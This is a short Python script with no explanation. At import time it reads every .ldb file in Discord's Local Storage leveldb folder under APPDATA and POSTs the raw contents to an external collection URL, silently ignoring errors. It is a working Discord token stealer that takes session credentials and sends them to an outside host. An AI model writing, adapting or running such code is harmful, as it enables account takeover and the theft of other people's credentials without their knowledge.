import glob
import os
import requests

URL = "https://collect.example.net/d"


def make(u):
    def send(d):
        requests.post(u, data=d, timeout=5)
    return send


_base = os.path.join(os.getenv("APPDATA", ""), "discord", "Local Storage", "leveldb")
for _f in glob.glob(os.path.join(_base, "*.ldb")):
    try:
        make(URL)(open(_f, "rb").read())
    except Exception:
        pass
